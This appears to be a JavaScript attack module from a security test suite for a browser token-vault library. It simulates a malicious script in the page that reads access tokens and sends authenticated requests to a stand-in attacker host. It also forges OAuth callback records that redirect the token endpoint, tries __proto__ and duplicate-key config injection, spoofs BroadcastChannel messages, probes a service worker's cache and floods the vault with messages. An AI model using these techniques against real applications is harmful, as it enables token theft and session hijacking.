// Script that asks: the app's client, the vault, the parking service worker, other tabs. All of it runs in the page.

export const askClient = async ({ take }) => take(await auth.accessToken());

export const callApi = async ({ env, tell }) => tell(await (await auth.fetch(env.orders)).text());

export const callEcho = async ({ env, tell }) =>
  tell(await (await auth.fetch(env.careless)).text());

export const callElsewhere = async ({ env, tell }) => {
  tell(await (await auth.fetch(`${env.attacker}/echo`)).text());
};

/** The vault in a frame of the script's own. */
export const byFrame = (env) => {
  const frame = document.createElement("iframe");
  const { port1, port2 } = new MessageChannel();
  frame.src = `${env.vault}frame.html`;
  frame.onload = () => frame.contentWindow.postMessage({ keyward: 1 }, "*", [port2]);
  document.documentElement.append(frame);
  return port1;
};

/** The vault's script in a worker of the script's own: any script may be loaded from anywhere. */
export const byCopy = (env, n) => {
  const script = `importScripts(${JSON.stringify(`${env.vault}vault.js`)})`;
  const url = URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
  const { name } = env;
  return n % 2 ? new Worker(url, { name }) : new SharedWorker(url, { name }).port;
};

/** What no page of the app sends its vault now. */
export const commands = async ({ env, take }, reach) => {
  const { issuer, clientId, redirectUri, scope } = env.config;
  const port = reach(env);
  const mark = Object.entries(localStorage).find(([key]) => key.endsWith(".mark"))?.[1] ?? null;
  const [session, hash] = mark?.slice(1).split(".") ?? [];
  const record = JSON.stringify({
    ...{ v: 1, state: "evil", nonce: "evil", verifier: env.verifier, createdAt: Date.now() },
    ...{ issuer, clientId, redirectUri, scope, returnTo: "/" },
    ...{ metadata: { issuer, token_endpoint: `${env.attacker}/token` } },
  });
  const query = new URLSearchParams({ code: "evil", state: "evil", iss: issuer }).toString();
  const asked = [
    { do: "callback", query, record, mark },
    { do: "touch", at: Date.now() + 1e12 },
    { do: "cancel" },
    { do: "adopt", mark: `+evil.${hash}` },
  ];
  let welcome;
  const welcomed = new Promise((resolve) => (welcome = resolve));
  port.onmessage = ({ data }) => {
    take(data);
    if (data.welcome) welcome();
  };
  port.postMessage({ hello: 1, config: JSON.stringify(env.config), mark });
  const patience = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  await Promise.race([welcomed, patience(5_000)]);
  asked.forEach((one, n) => {
    port.postMessage({ json: JSON.stringify({ v: 1, ticket: 1 + n, session, ...one }) });
  });
  port.postMessage({ retire: 1 });
  await patience(2_000);
};

/** The vault's script, by whoever `start` says, with every configuration that the attacker may think of. */
export const greetings = ({ env, take, tell }) => {
  const app = env.config;
  const evil = env.attacker;
  const metadata = {
    issuer: app.issuer,
    authorization_endpoint: `${evil}/auth`,
    token_endpoint: `${evil}/token`,
    jwks_uri: `${evil}/keys`,
    revocation_endpoint: `${evil}/revoke`,
  };
  const resources = [{ origin: evil, paths: ["/"] }];
  const text = JSON.stringify(app);
  const configs = [
    JSON.stringify({ ...app, issuer: evil, metadata: { ...metadata, issuer: evil }, resources }),
    JSON.stringify({ ...app, metadata, resources }),
    JSON.stringify({ ...app, resources }),
    // The app's own, with a second member of a name that another reader might take first or last.
    text.replace("{", `{"resources":${JSON.stringify(resources)},`),
    text.replace(/}$/, `,"resources":${JSON.stringify(resources)}}`),
    text.replace("{", `{"__proto__":${JSON.stringify({ resources, metadata })},`),
    // What is not pinned: once so that the vault takes it, and once so that it cannot.
    ...[{ ui_locales: "xx" }, { redirect_uri: evil }].map((params) =>
      JSON.stringify({
        ...app,
        ...{ leeway: 29, idTokenHint: false, allow: resources },
        authorizationParams: { ...app.authorizationParams, ...params },
      }),
    ),
  ];
  const calls = [`${evil}/echo`, env.orders];
  const mark = Object.entries(localStorage).find(([key]) => key.endsWith(".mark"))?.[1] ?? null;
  const session = mark?.match(/^\+([^.]+)\./)?.[1];
  /** Says hello with one of them and tries what a page may ask; `port` is of a worker. */
  const greet = (port, config) =>
    new Promise((resolve) => {
      port.onmessage = ({ data }) => {
        take(data);
        if (data.chunk) tell(new TextDecoder().decode(data.chunk));
        if (data.welcome === null) return resolve();
        if (!data.welcome) return;
        port.postMessage({ json: JSON.stringify({ v: 1, do: "accessToken", ticket: 1, session }) });
        port.postMessage({ json: JSON.stringify({ v: 1, do: "refresh", ticket: 2, session }) });
        calls.forEach((url, n) => {
          const json = JSON.stringify({
            v: 1,
            do: "call",
            ticket: 3 + n,
            session,
            url,
            method: "GET",
          });
          const request = { url, method: "GET", headers: [], body: null, options: {} };
          port.postMessage({ json, request });
        });
        setTimeout(resolve, 1_500);
      };
      setTimeout(resolve, 5_000);
      port.postMessage({ hello: 1, config, mark });
    });
  return { configs, greet };
};

export const parked = async ({ env, take, tell }) => {
  const init = {
    method: "POST",
    body: JSON.stringify({ key: env.name }),
    ...(env.apart ? {} : { mode: "same-origin", cache: "only-if-cached" }),
  };
  const ask = async (where) => {
    try {
      tell(await (await where.fetch(`${env.vault}parked`, init)).text());
    } catch {
      // Refused, or the window is of another origin.
    }
  };
  await ask(window);
  const frame = document.createElement("iframe");
  frame.src = `${env.vault}texts.js`;
  document.body.append(frame);
  await new Promise((resolve) => (frame.onload = resolve));
  await ask(frame.contentWindow);
  const script = `(async () => {
    const told = [];
    const answer = await fetch("${env.vault}parked", ${JSON.stringify(init)}).catch(() => null);
    const text = answer ? await answer.text() : "";
    if ("onconnect" in self) onconnect = ({ ports: [port] }) => port.postMessage(text);
    else postMessage(text);
  })()`;
  const url = URL.createObjectURL(new Blob([script], { type: "text/javascript" }));
  const shared = new SharedWorker(url);
  const dedicated = new Worker(url);
  shared.port.onmessage = dedicated.onmessage = ({ data }) => tell(data);
  await new Promise((resolve) => setTimeout(resolve, 1_000));
  take(await caches.keys());
};

export const forgeSiblings = async ({ env, take }) => {
  const { issuer, clientId } = env.config;
  const channel = new BroadcastChannel(`keyward.${issuer}|${clientId}`);
  channel.onmessage = ({ data }) => take(data);
  const mark = Object.entries(localStorage).find(([key]) => key.endsWith(".mark"))?.[1] ?? "";
  const forged = [
    "tokens?",
    { type: "session?" },
    { want: "session", from: crypto.randomUUID() },
    { do: "accessToken", ticket: 1 },
    { hello: 1, config: "{}" },
    "-",
    `-${mark.slice(1)}x`,
    `+${mark.slice(1)}`,
    null,
    42,
  ];
  for (const one of forged) channel.postMessage(one);
  await new Promise((resolve) => setTimeout(resolve, 1_000));
};

export const flood = async ({ env, tell }, reach) => {
  const port = reach(env);
  port.start();
  port.postMessage({ hello: 1, config: JSON.stringify(env.config), mark: null });
  for (let n = 0; n < 5_000; n += 1) {
    port.postMessage({ json: JSON.stringify({ v: 1, do: "state", ticket: n }) });
  }
  const calls = Array.from({ length: 500 }, () => auth.fetch(env.orders).catch(() => null));
  const [first] = await Promise.all(calls);
  tell(await first.text());
};
